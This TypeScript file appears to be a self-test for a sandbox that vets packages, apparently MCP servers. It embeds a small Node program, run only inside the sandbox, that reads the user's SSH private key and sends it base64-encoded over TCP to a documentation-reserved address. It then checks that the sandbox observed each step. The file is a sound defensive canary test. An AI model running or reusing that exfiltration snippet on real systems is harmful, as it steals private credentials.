// Proves before a run that the sandbox sees: a program that does the known things must be seen doing them.
import { mkdtemp, rm, writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { planCanaries } from './canaries.ts';
import { launch } from './launch.ts';
import { monotonicMs } from './protocol.ts';
import type { Box, BoxEvent, SelfTest } from './types.ts';

// Addresses that are reserved for documentation; the program runs in the box only.
const TCP = { ip: '203.0.113.77', port: 4477 };
const UDP = { ip: '198.51.100.77', port: 9977 };
const NAME = 'self-test.example';
const FILE = '.ssh/id_ed25519';
const TIMEOUT_MS = 10_000;

const PROGRAM = `
const { once } = require('node:events');
const { readFileSync } = require('node:fs');
const net = require('node:net');
const main = async () => {
  const secret = readFileSync(process.env.HOME + '/${FILE}');
  await require('node:dns').promises.lookup('${NAME}', 4);
  const tcp = net.connect(${TCP.port}, '${TCP.ip}');
  await once(tcp, 'connect');
  tcp.end(secret.toString('base64'));
  await once(tcp, 'close');
  const udp = require('node:dgram').createSocket('udp4');
  udp.send('beacon', ${UDP.port}, '${UDP.ip}', () => udp.close());
};
main();
`;

interface Sight {
  what: string;
  isSeen(event: BoxEvent): boolean;
}
const SIGHTS: Sight[] = [
  {
    what: 'a file read',
    isSeen: (e) => e.type === 'file' && e.op === 'read' && e.path === `~/${FILE}`,
  },
  { what: 'a DNS question', isSeen: (e) => e.type === 'dns' && e.name === NAME },
  {
    what: 'a TCP connection',
    isSeen: (e) => e.type === 'egress' && e.proto === 'tcp' && e.ip === TCP.ip,
  },
  {
    what: 'a secret in it',
    isSeen: (e) => e.type === 'egress' && e.canaries.some(({ id }) => id === `file:${FILE}`),
  },
  {
    what: 'a UDP datagram',
    isSeen: (e) => e.type === 'egress' && e.proto === 'udp' && e.ip === UDP.ip,
  },
];

/** Never rejects. Takes about half a second. */
export async function selfTest({ seed }: { seed: string }): Promise<SelfTest> {
  const startedAt = monotonicMs();
  const folder = await mkdtemp(path.join(tmpdir(), 'mcp-vet-self-test-'));
  try {
    await chmod(folder, 0o755);
    await writeFile(path.join(folder, 'beacon.cjs'), PROGRAM, { mode: 0o644 });
    const unseen = await watchBeacon(folder, seed);
    if (unseen.length === 0) return { ok: true, seconds: (monotonicMs() - startedAt) / 1000 };
    return { ok: false, reason: `the sandbox does not see ${unseen.join(', ')}` };
  } catch (error) {
    return { ok: false, reason: error instanceof Error ? error.message : String(error) };
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

async function watchBeacon(folder: string, seed: string): Promise<string[]> {
  const box: Box = await launch({
    packageDir: folder,
    command: ['node', '/opt/server/beacon.cjs'],
    canaries: planCanaries(seed, []),
    seed,
    limits: { timeMs: TIMEOUT_MS },
  });
  const events: BoxEvent[] = [];
  box.onEvent((event) => events.push(event));
  await box.exited;
  await box.stop();
  return SIGHTS.filter(({ isSeen }) => !events.some(isSeen)).map(({ what }) => what);
}
